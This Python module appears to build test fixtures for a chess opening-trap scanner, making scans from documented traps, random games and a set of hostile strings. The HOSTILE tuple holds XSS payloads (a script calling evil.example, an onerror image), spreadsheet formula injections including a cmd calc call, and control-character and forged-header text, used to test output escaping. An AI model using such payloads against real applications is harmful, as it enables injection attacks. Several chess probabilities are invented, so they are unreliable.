"""Scans for the tests, made without an engine: from the documented traps, from hostile text, and in bulk."""

from __future__ import annotations

import json
import random
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import chess
import msgspec

from trapscan.contract import (
    SCHEMA,
    AuthorsWord,
    BaitDetails,
    BaitFinding,
    BaitReply,
    Chapter,
    Counters,
    Cp,
    Depth,
    EngineUsed,
    Evidence,
    Finding,
    Gain,
    Input,
    InputFile,
    Instead,
    LimitKind,
    LookAlike,
    MoveText,
    MoveTree,
    Opening,
    Place,
    Prepared,
    PreparedState,
    Problem,
    Refutation,
    RepertoireSide,
    Scan,
    SecondOpinion,
    Side,
    SlipFinding,
    SlipKind,
    Tool,
    Verified,
)

LEVELS = (1000, 1200, 1400, 1600, 1800, 2000, 2200, 2400)
TRAPS = Path(__file__).resolve().parent.parent / "data" / "open_set.jsonl"

HOSTILE = (
    "<script>document.title='owned';fetch('https://evil.example/x')</script>",
    "</script><img src=x onerror=\"document.title='owned'\">",
    "\"quoted\" 'single' -- ; drop { } [%cal Ra1a8] \\ $1 (paren)",
    "\u202eright to left\u202c \u2067isolate\u2069 \x1b[31mred\x1b[0m \x00nul \u2028line",
    '=HYPERLINK("https://evil.example","click")',
    "+1+cmd|' /C calc'!A0",
    '% percent start\n% next\n[Event "forged"]\n\n1. e4 *',
    "Ünïcödé Жук 将棋 ♞",
)


def cp(value: int) -> Cp:
    """The trap file writes a mate as +-9999."""
    return {"mate": -1} if value <= -9999 else {"mate": 1} if value >= 9999 else value


def traps() -> list[dict[str, Any]]:
    return [json.loads(line) for line in TRAPS.read_text(encoding="utf-8").splitlines() if line.strip()]


def falling(top: float, floor: float = 0.02) -> tuple[float, ...]:
    """A chance that falls with the level."""
    return tuple(round(max(floor, top * (1 - index * 0.11)), 4) for index in range(len(LEVELS)))


def rising(low: float) -> tuple[float, ...]:
    return tuple(round(min(0.97, low + index * 0.07), 4) for index in range(len(LEVELS)))


def trap_finding(trap: dict[str, Any], number: int, *, ours: str = "white") -> SlipFinding:
    """A finding made of a documented trap; chances are invented, moves and scores are the trap's."""
    start = chess.Board()
    for san in trap["line"]:
        start.push_san(san)
    slip = start.parse_san(trap["slip"])
    after = start.copy()
    after.push(slip)
    line: list[str] = []
    walk = after.copy()
    for word in trap["engine_line"].replace("...", " ").replace(".", " ").split():
        if word.isdigit() or len(line) >= 7:
            continue
        try:
            walk.push_san(word)
        except ValueError:
            break
        line.append(word)
    if not line:
        line = [trap["punish"][0]]
    also = tuple(san for san in trap["punish"] if san != line[0])
    better = start.parse_san(trap["best_instead"])
    victim = Side(trap["victim"])
    chance, reach = falling(0.12 + 0.02 * (number % 17)), falling(0.05 + 0.01 * (number % 7), 0.001)
    cost = tuple(round(min(0.6, trap["loss"] * 0.8 + index * 0.01), 4) for index in range(len(LEVELS)))
    toll = tuple(round(100 * r * p * c, 6) for r, p, c in zip(reach, chance, cost, strict=True))
    find = rising(0.2 + 0.03 * (number % 9))
    return SlipFinding(
        id=f"t{number:03d}{trap['id'][:20]}",
        kind=SlipKind.PITFALL if victim == ours else SlipKind.TRICK,
        victim=victim,
        fen=start.fen(en_passant="legal"),
        start_fen=chess.STARTING_FEN,
        line=tuple(trap["line"]),
        move_orders=1 + number % 4,
        opening=Opening(eco=trap["eco"], name=trap["name"].split(",")[0]),
        slip=MoveText(san=trap["slip"], uci=slip.uci()),
        refutation=Refutation(san=line[0], uci=after.parse_san(line[0]).uci(), line=tuple(line)),
        also=also,
        instead=(Instead(san=trap["best_instead"], uci=better.uci(), cp=cp(trap["cp_before"]), answers=""),),
        cp_best=cp(trap["cp_before"]),
        cp_slip=cp(trap["cp_after"]),
        gain=Gain(trap["gain"]),
        material={"queen": 9, "rook": 5, "piece": 3, "exchange": 2, "pawn": 1}.get(trap["gain"], 0),
        ply=3,
        motifs=tuple(trap["motif"]),
        why_tempting=f"The move {trap['slip']} takes or attacks something at once.",
        why_it_fails=f"{line[0]} hits two things at once and wins {trap['gain']}.",
        worth=tuple(round(min(0.95, 0.25 + 2 * share), 4) for share in chance),
        met=reach,
        must_know=tuple(f < 0.5 and t >= 0.05 for f, t in zip(find, toll, strict=True)),
        chance=chance,
        find=find,
        reach=reach,
        cost=cost,
        toll=toll,
        evidence=Evidence(games=40 + number, played=number % 11) if number % 3 == 0 else None,
        look_alikes=(twin(start, slip),) if number % 2 == 0 else (),
        depth=Depth(exposed=2000),
        verified=Verified(
            nodes=200_000,
            second_engine=SecondOpinion(engine="Second 1.0", cp_best=10, cp_slip=-180, agrees=True)
            if number % 5 == 0
            else None,
        ),
    )


def twin(board: chess.Board, slip: chess.Move) -> LookAlike:
    """A position like it, with one pawn moved: only a shape for the page, not a claim."""
    other = board.copy(stack=False)
    names: tuple[str, ...]
    for square in (chess.A2, chess.H2, chess.A7, chess.H7, chess.B7):
        piece = other.piece_at(square)
        ahead = square + (8 if square < 32 else -8)
        if piece and piece.piece_type == chess.PAWN and not other.piece_at(ahead) and square != slip.from_square:
            other.remove_piece_at(square)
            other.set_piece_at(ahead, piece)
            names = (chess.square_name(square), chess.square_name(ahead))
            break
    else:
        names = ("e4",)
    return LookAlike(
        fen=other.fen(en_passant="legal"),
        line=(),
        cp_best=20,
        cp_move=15,
        squares=names,
        reason="The square is covered.",
    )


def bait_finding(number: int = 0) -> BaitFinding:
    """1.e4 e5 2.Nf3 Nc6 3.Bc4, now 3...Nd4 as a bait with 4.Nxe5 Qg5 (a classic; the balance is invented)."""
    board = chess.Board()
    line = ("e4", "e5", "Nf3", "Nc6", "Bc4")
    for san in line:
        board.push_san(san)
    n = len(LEVELS)
    reply = BaitReply(
        slip=MoveText(san="Nxe5", uci="f3e5"),
        refutation=Refutation(san="Qg5", uci="d8g5", line=("Qg5", "Nxf7", "Qxg2", "Rf1", "Qxe4+", "Be2", "Nf3#")),
        chance=falling(0.4),
        cp_best=90,
        cp_slip=-210,
        gain=Gain.PIECE,
        motifs=("double attack",),
        why_tempting="It takes a pawn.",
        why_it_fails="The queen attacks the knight on e5 and the pawn on g2.",
    )
    return BaitFinding(
        id=f"bait{number}",
        victim=Side.WHITE,
        fen=board.fen(en_passant="legal"),
        start_fen=chess.STARTING_FEN,
        line=line,
        move_orders=2,
        opening=Opening(eco="C50", name="Italian Game"),
        bait=MoveText(san="Nd4", uci="c6d4"),
        replies=(reply,),
        cp_best=25,
        cp_slip=-80,
        gain=Gain.PIECE,
        motifs=("double attack",),
        chance=falling(0.4),
        find=rising(0.3),
        reach=falling(0.2),
        cost=falling(0.2),
        toll=falling(0.5),
        bait_details=BaitDetails(
            repertoire_move=MoveText(san="Nf6", uci="g8f6"),
            price=tuple(0.08 for _ in range(n)),
            slips_gain=falling(0.12),
            net=tuple(0.04 - 0.02 * index for index in range(n)),
            net_low=tuple(0.01 - 0.02 * index for index in range(n)),
            net_high=tuple(0.07 - 0.02 * index for index in range(n)),
            firm=True,
            pays_below=1400,
            otherwise=("Nxd4", "exd4"),
        ),
        depth=Depth(exposed=20_000),
        verified=Verified(nodes=200_000),
    )


QUIET_LINES = ("e4 e5 Nf3 Nc6 Bb5 a6 Bxc6 dxc6", "b3 e5 Bb2 d6 e3", "b3 d6 Bb2 e5")
"""Lines without a finding; the last leads into the one before it."""


def tree_of(lines: list[tuple[str, ...]]) -> MoveTree:
    """Lines from the usual start position as one tree; those that share a beginning share its moves."""
    root: dict[str, Any] = {}
    for line in lines:
        node = root
        for san in line:
            node = node.setdefault(san, {})

    def words(node: dict[str, Any]) -> list[str]:
        if not node:
            return []
        (main, below), *others = node.items()
        inside = [f"({' '.join([san, *words(child)])})" for san, child in others]
        return [main, *inside, *words(below)]

    return MoveTree(start_fen=chess.STARTING_FEN, moves=" ".join(words(root)))


CHAPTERS = tuple(
    Chapter(
        title=f"Chapter {letter}",
        file=0,
        game=number,
        side=RepertoireSide.WHITE if number <= 5 else RepertoireSide.BLACK,
        positions=10 + number,
    )
    for number, letter in enumerate("ABCDEFGHIJ", 1)
)
"""Five for each side."""


def chapter_scan() -> Scan:
    """The documented traps in ten chapters, one after the other; every third stands in the file, marked, with what its
    author says; the answers are prepared in all the ways there are."""
    states = tuple(PreparedState)
    found = []
    for number, trap in enumerate(traps()):
        finding = trap_finding(trap, number)
        ours = number % 10 < 5 if finding.victim is Side.BLACK else number % 10 >= 5
        changes: dict[str, Any] = {
            "chapters": (number % 10,),
            "kind": SlipKind.TRICK if ours else SlipKind.PITFALL,
            "state": states[number % 4],
        }
        if number % 3 == 0:
            word = AuthorsWord(chapter=number % 10, place=Place.SLIP, text=f"Remark {number} on <b>it</b>")
            changes |= {"words": (word,), "mark": "??", "in_repertoire": True, "named": finding.punishment[0]}
            changes["prepared"] = Prepared(answers=(finding.punishment[0],), right=True)
        found.append(msgspec.structs.replace(finding, **changes))
    return make_scan(tuple(found), side=RepertoireSide.BOTH, chapters=CHAPTERS)


def make_scan(findings: Sequence[Finding], **changes: Any) -> Scan:
    base: dict[str, Any] = {
        "schema": SCHEMA,
        "tool": Tool(version="0.1.0"),
        "engine": EngineUsed(name="Testfish 1.0", options={"Hash": 16, "Threads": 1}, limit_kind=LimitKind.NODES),
        "settings": {"shown": 40, "threshold": 0.1},
        "side": RepertoireSide.WHITE,
        "level": 1500,
        "levels": LEVELS,
        "title": "Documented traps",
        "input": Input(files=(InputFile(name="traps.pgn", sha256="0" * 64),), games=39, positions=310, merged=42),
        "counters": Counters(positions=310, candidates=2500, searches=4000, engine_nodes=90_000_000, store_hits=12),
        "problems": (),
        "findings": findings,
    }
    return Scan(**(base | changes))


def trap_scan() -> Scan:
    """The documented traps, two of them told as unsound moves of the repertoire, and one bait."""
    findings: list[Finding] = []
    for index, finding in enumerate(trap_finding(trap, number) for number, trap in enumerate(traps())):
        if finding.kind is SlipKind.PITFALL and index % 6 == 0:
            finding = msgspec.structs.replace(finding, kind=SlipKind.UNSOUND, in_repertoire=True)
        elif finding.kind is SlipKind.TRICK and index % 6 == 0:
            prepared = Prepared(answers=(quietest(finding),), right=False)
            finding = msgspec.structs.replace(finding, in_repertoire=True, prepared=prepared)
        findings.append(finding)
    findings.append(bait_finding())
    lines = [finding.line for finding in findings] + [tuple(line.split()) for line in QUIET_LINES]
    return make_scan(tuple(findings), tree=(tree_of(lines),))


def quietest(finding: SlipFinding) -> str:
    """Some answer to the slip that is not the refutation."""
    board = chess.Board(finding.fen)
    board.push_uci(finding.slip.uci)
    return next(san for san in sorted(map(board.san, board.legal_moves)) if san not in finding.punishment[:1])


def disputed_scan() -> Scan:
    """The documented traps as a second engine might see them: it denies each fourth."""
    findings: list[Finding] = []
    for number, finding in enumerate(trap_scan().findings):
        opinion = SecondOpinion(
            engine="Second 1.0",
            cp_best=12,
            cp_slip=-23 if number % 4 == 0 else -234,
            agrees=number % 4 != 0,
            reply=finding.punishment[0] if isinstance(finding, SlipFinding) else "",
            nodes=400_000,
        )
        verified = Verified(nodes=200_000, second_engine=opinion)
        findings.append(msgspec.structs.replace(finding, verified=verified))
    second = EngineUsed(name="Second 1.0", options={}, limit_kind=LimitKind.DEPTH)
    findings.sort(key=lambda finding: finding.disputed)
    return make_scan(tuple(findings), second_engine=second)


def hostile_scan() -> Scan:
    """Every free text of the contract filled with hostile text."""
    findings = []
    for number, trap in enumerate(traps()[:8]):
        text = HOSTILE[number % len(HOSTILE)]
        finding = trap_finding(trap, number)
        findings.append(
            msgspec.structs.replace(
                finding,
                id=f"{number}{text}",
                opening=Opening(eco=text, name=text),
                motifs=(text, "fork"),
                why_tempting=text,
                why_it_fails=text,
                move_order_hint=text,
                instead=(msgspec.structs.replace(finding.instead[0], answers=text),),
                look_alikes=tuple(msgspec.structs.replace(alike, reason=text) for alike in finding.look_alikes),
                mark=text,
                named=text,
                chapters=tuple(range(number + 1)),
                words=tuple(AuthorsWord(chapter=number, place=place, text=text) for place in Place),
            )
        )
    return make_scan(
        tuple(findings),
        title=" ".join(HOSTILE),
        engine=EngineUsed(name=HOSTILE[0], options={}, limit_kind=LimitKind.NODES),
        tool=Tool(version=HOSTILE[1]),
        input=Input(
            files=tuple(InputFile(name=text, sha256="0" * 64) for text in HOSTILE), games=1, positions=8, merged=0
        ),
        problems=tuple(Problem(file=text, game=1, ply=3, text=text) for text in HOSTILE),
        chapters=tuple(
            Chapter(title=text, file=0, game=number, side=RepertoireSide.WHITE, positions=1)
            for number, text in enumerate(HOSTILE, 1)
        ),
        settings={text: text for text in HOSTILE},
    )


def bulk_scan(count: int = 1000, seed: int = 7) -> Scan:
    """`count` findings at positions of random games: any legal slip and reply, numbers drawn by lot."""
    rng = random.Random(seed)
    findings: list[Finding] = []
    while len(findings) < count:
        board, line = chess.Board(), []
        for _ in range(rng.randint(4, 24)):
            moves = sorted(board.legal_moves, key=lambda move: move.uci())
            if not moves or board.is_game_over():
                break
            move = rng.choice(moves)
            line.append(board.san(move))
            board.push(move)
        moves = sorted(board.legal_moves, key=lambda move: move.uci())
        if len(moves) < 2:
            continue
        slip, better = rng.sample(moves, 2)
        after = board.copy()
        after.push(slip)
        pv: list[str] = []
        while len(pv) < 6 and not after.is_game_over():
            reply = rng.choice(sorted(after.legal_moves, key=lambda move: move.uci()))
            pv.append(after.san(reply))
            after.push(reply)
        if not pv:
            continue
        first = board.copy()
        first.push(slip)
        uci = first.parse_san(pv[0]).uci()
        chance, reach, cost = falling(rng.random() * 0.6), falling(rng.random() * 0.2, 0.0), falling(rng.random() * 0.5)
        number = len(findings)
        trap = traps()[number % 39] if number < 39 else None
        findings.append(
            SlipFinding(
                id=f"r{number:05d}",
                kind=rng.choice((SlipKind.TRICK, SlipKind.PITFALL)),
                victim=Side.of(board.turn),
                fen=board.fen(en_passant="legal"),
                start_fen=chess.STARTING_FEN,
                line=tuple(line),
                move_orders=rng.randint(1, 5),
                opening=Opening(eco=f"A{number % 100:02d}", name=f"Opening {number % 25}: line {number % 7}"),
                slip=MoveText(san=board.san(slip), uci=slip.uci()),
                refutation=Refutation(san=pv[0], uci=uci, line=tuple(pv)),
                instead=(Instead(san=board.san(better), uci=better.uci(), cp=rng.randint(-50, 50)),),
                cp_best=rng.randint(-50, 80),
                cp_slip=-rng.randint(100, 900),
                gain=rng.choice(list(Gain)),
                motifs=tuple(sorted(rng.sample(["fork", "pin", "skewer", "discovered attack", "mating net"], 2))),
                why_tempting="It wins a pawn and attacks the queen." if trap is None else trap["name"],
                why_it_fails="The reply attacks two men at once.",
                must_know=tuple(rng.random() < 0.3 for _ in LEVELS),
                chance=chance,
                find=rising(rng.random() * 0.5),
                reach=reach,
                cost=cost,
                toll=tuple(round(100 * r * p * c, 6) for r, p, c in zip(reach, chance, cost, strict=True)),
                look_alikes=(twin(board, slip),) if number % 4 == 0 else (),
                depth=Depth(exposed=2000),
                verified=Verified(nodes=200_000),
            )
        )
    return make_scan(tuple(findings), title=f"{count} findings by lot")
